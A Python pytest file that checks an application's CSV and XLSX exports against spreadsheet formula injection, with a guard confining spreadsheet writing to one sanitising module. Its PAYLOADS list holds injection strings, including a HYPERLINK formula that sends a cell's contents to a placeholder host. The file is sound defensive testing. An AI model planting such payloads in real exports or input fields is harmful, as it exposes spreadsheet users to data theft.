"""No CSV or XLSX file kipp writes carries a live formula (issue 11, item 4).

Formula-like text is put into every field people type that reaches an export (unit and agency
names, titles, judges' names, affiliations and comments, the edition's own names, rulings,
reasons, decree numbers); then every export is produced the way people get it (its download
route, or the worker job behind it) and every cell is read back: none may start with a formula
character unescaped, and no XLSX cell may be a formula. The last test keeps it so: no module
but ``kipp.spreadsheets`` writes CSV or XLSX, and that module passes every cell through
``safe_cell``.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from kipp.editions.kinds import StageKind
from kipp.objections.models import Objection, ObjectionStatus
from kipp.scoring.aggregation import queue_recompute, recompute_stage
from kipp.scoring.models import ScoreSheet
from kipp.verification.models import FieldVisit
from tests.factories import AgencyFactory, SecretariatFactory
from tests.publication_factories import all_participants, certificate_folder, winners_edition  # noqa: F401
from tests.scoring_factories import fill, scored_stage

pytestmark = pytest.mark.integration

PAYLOADS = ('=HYPERLINK("http://x"&A1,"y")', "+1", "-1+1", "@SUM(1)", "\uff1dSUM(1)", " =1+1")
# What a spreadsheet takes as the start of a formula (or a DDE payload).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class Poison:
    """Formula-like texts, each unique (a number after the payload), remembered as they are handed out."""

    def __init__(self) -> None:
        self.counter = itertools.count(1)
        self.given: set[str] = set()

    def __call__(self) -> str:
        n = next(self.counter)
        text = f"{PAYLOADS[n % len(PAYLOADS)]} {n}"
        self.given.add(text)
        return text

    def set(self, obj: object, *attributes: str) -> None:
        for attribute in attributes:
            setattr(obj, attribute, self())


def live(value: object) -> bool:
    return isinstance(value, str) and (value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_STARTS))


def xlsx_texts(data: bytes) -> set[str]:
    """Every text cell of a workbook, failing on any formula or formula-like cell."""
    book = load_workbook(io.BytesIO(data))  # formulas as formulas, not their cached values
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert not live(cell.value), f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def csv_texts(data: bytes) -> set[str]:
    """Every cell of a CSV file (UTF-8 with a byte-order mark), failing on any formula-like cell."""
    texts = set()
    for number, row in enumerate(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")), start=1):
        for value in row:
            assert not live(value), f"row {number}: {value!r}"
            texts.add(value)
    return texts


def escaped(texts: set[str], expected: set[str]) -> None:
    """The poisoned ``expected`` texts reached the file, each with its apostrophe."""
    missing = {t for t in expected if "'" + t not in texts}
    assert not missing, f"not exported (escaped): {sorted(missing)}"


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.data


# --- the publication: the certificate archive's index and the results workbook -------------------


@pytest.mark.usefixtures("certificate_folder")
def test_the_certificate_index_and_the_results_workbook(client, login, db_session):
    poison = Poison()
    scene = winners_edition()
    edition = scene.edition
    participants = all_participants(scene)
    # The report's own case: an Admin Lokal renames a unit through the agency's page.
    renamed = scene.winners[0].unit
    admin = scene.rounds.admins[renamed.agency_id]
    db_session.commit()
    login(admin)
    new_name = poison()
    response = client.post(f"/agency/units/{renamed.id}/edit", data={"name": new_name})
    assert response.status_code in (200, 302)
    db_session.expire_all()
    assert renamed.name == new_name
    login.logout()

    poison.set(edition, "name")
    for thing in [*edition.groups, *edition.categories, *edition.stages]:
        poison.set(thing, "name_id", "name_en")
    agencies = {p.unit.agency for p in participants}
    for agency in agencies:
        poison.set(agency, "name")
    for unit in {p.unit for p in participants} - {renamed}:
        poison.set(unit, "name")
    for proposal in participants:
        poison.set(proposal, "title")
    for entry in [*scene.winners_list.entries, *scene.rounds.shortlist.entries]:
        poison.set(entry, "reason")
    poison.set(scene.winners_list, "decree_number")
    poison.set(scene.rounds.shortlist, "decree_number")
    db_session.add(Objection(edition_id=edition.id, proposal_id=scene.disqualified.id, reference="SGH-2033-0001",
                             name=poison(), contact="pelapor@contoh.id", reason=poison(), client_hash="0" * 64,
                             status=ObjectionStatus.UPHELD, ruling=poison(), ruled_by_id=scene.secretariat.id,
                             ruled_at=scene.winners_list.frozen_at))
    db_session.add(FieldVisit(edition_id=edition.id, proposal_id=scene.winners[0].id, location=poison(),
                              findings=poison()))
    db_session.commit()

    login(scene.secretariat)
    client.post(f"/admin/editions/{edition.id}/publication/publish", follow_redirects=True)
    archive = zipfile.ZipFile(io.BytesIO(download(client, f"/admin/editions/{edition.id}/publication/"
                                                          "certificates.zip")))
    index = csv_texts(archive.read("daftar-sertifikat.csv"))
    certified = [*scene.winners, *scene.finalists_only]
    escaped(index, {p.title for p in certified} | {p.agency.name for p in certified} | {new_name})

    workbook = xlsx_texts(download(client, f"/admin/editions/{edition.id}/publication/results.xlsx"))
    escaped(workbook, {p.title for p in participants} | {a.name for a in agencies}
            | {g.name_en for g in edition.groups if any(p.group_id == g.id for p in participants)}
            | {e.reason for e in scene.winners_list.entries})


# --- a scored stage: every sheet, the ranking; the proposal list --------------------------------


def test_the_scoring_exports_and_the_proposal_list(client, login, db_session):
    poison = Poison()
    stage = scored_stage(proposals=3, judges=3, per_proposal=2)
    edition = stage.edition
    poison.set(edition, "name")
    for thing in [*edition.groups, *edition.categories]:
        poison.set(thing, "name_id", "name_en")
    for aspect in stage.scheme.aspects:
        poison.set(aspect, "title_id", "title_en")
    for member in stage.members:
        poison.set(member.user, "name", "affiliation")
    for proposal in stage.proposals:
        poison.set(proposal, "title")
        poison.set(proposal.unit, "name")
        poison.set(proposal.unit.agency, "name")
    db_session.commit()
    for proposal in stage.proposals:
        for member in stage.judges_of(proposal):
            sheet = fill(stage, member, proposal, 70, comment=poison())
            sheet.comment = poison()
    db_session.commit()
    run = queue_recompute(stage.scheme)
    db_session.commit()
    recompute_stage(0, run_id=run.id)
    db_session.commit()

    login(SecretariatFactory())
    base = f"/admin/scoring/{edition.id}/{stage.scheme.stage.value}"
    sheets = xlsx_texts(download(client, f"{base}/sheets.xlsx"))
    comments = set()
    for sheet in db_session.scalars(sa.select(ScoreSheet).where(ScoreSheet.scheme_id == stage.scheme.id)):
        comments |= {sheet.comment, *(entry["comment"] for entry in sheet.scores.values())}
    escaped(sheets, {p.title for p in stage.proposals} | {p.agency.name for p in stage.proposals}
            | {m.user.name for m in stage.members} | {m.user.affiliation for m in stage.members} | comments)
    ranking = xlsx_texts(download(client, f"{base}/ranking.xlsx"))
    escaped(ranking, {p.title for p in stage.proposals} | {edition.name})

    proposals = xlsx_texts(download(client, f"/admin/proposals/export.xlsx?edition={edition.id}"))
    escaped(proposals, {p.title for p in stage.proposals} | {p.unit.name for p in stage.proposals}
            | {p.agency.name for p in stage.proposals})


# --- the import templates --------------------------------------------------------------------------


def test_the_import_templates(client, login, db_session):
    poison = Poison()
    agencies = [AgencyFactory(name=poison()) for _n in range(len(PAYLOADS))]
    login(SecretariatFactory())
    for url in ("/admin/agencies/import/template.csv", "/admin/innovations/import/template.csv"):
        csv_texts(download(client, url))
    xlsx_texts(download(client, "/admin/agencies/import/template.xlsx"))
    escaped(xlsx_texts(download(client, "/admin/innovations/import/template.xlsx")), {a.name for a in agencies})


# --- the guard: one way to write a spreadsheet -----------------------------------------------------

KIPP = Path(__file__).resolve().parents[2] / "kipp"
# The one module that writes CSV and XLSX files; every cell it writes goes through safe_cell.
WRITER = KIPP / "spreadsheets.py"
# Ways of writing a spreadsheet without it. Reading helpers of openpyxl (openpyxl.utils) are fine.
FORBIDDEN = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|\.writerows?\(|^\s*(import openpyxl|from openpyxl(?!\.utils)\S* import)"
    r"|\bWorkbook\(|\.create_sheet\(|\bload_workbook\b|\b\w*(book|wb)\.(active|worksheets)\b"
    r"|\bcell\w*\.value\s*=(?!=)|\._sheet\b",
    re.MULTILINE)


def test_no_module_writes_csv_or_xlsx_but_through_safe_cell():
    offenders = []
    for path in sorted(KIPP.rglob("*.py")):
        if path == WRITER:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if FORBIDDEN.search(line):
                offenders.append(f"{path.relative_to(KIPP.parent)}:{number}: {line.strip()}")
    assert not offenders, ("write CSV/XLSX through kipp.spreadsheets (csv_bytes, template_workbook, add_sheet, "
                           "streamed_workbook), whose cells pass through safe_cell:\n" + "\n".join(offenders))
    source = WRITER.read_text(encoding="utf-8")
    # Inside the writer, each way of putting a value into a cell or a CSV row applies safe_cell.
    for pattern in (r"def append\(self.*?\n(.*\n){0,2}", r"def cell\(self.*?\n(.*\n){0,2}",
                    r"def __setitem__\(self.*?\n(.*\n){0,2}", r"def csv_bytes\(.*?\n(.*\n){0,5}"):
        body = re.search(pattern, source)
        assert body is not None and "safe_cell(" in body.group(0), pattern
    assert source.count("csv.writer(") == 1 and source.count(".writerow(") == 0


def test_guard_catches_a_writer_outside_the_module():
    for line in ("writer = csv.writer(buffer)", "from openpyxl import Workbook", "book = Workbook()",
                 "sheet = workbook.create_sheet('x')", "    cell.value = title", "first = workbook.active",
                 "writer.writerow(row)"):
        assert FORBIDDEN.search(line), line
    for line in ("from openpyxl.utils import get_column_letter", "Agency.active", "if cell.value == 1:"):
        assert not FORBIDDEN.search(line), line
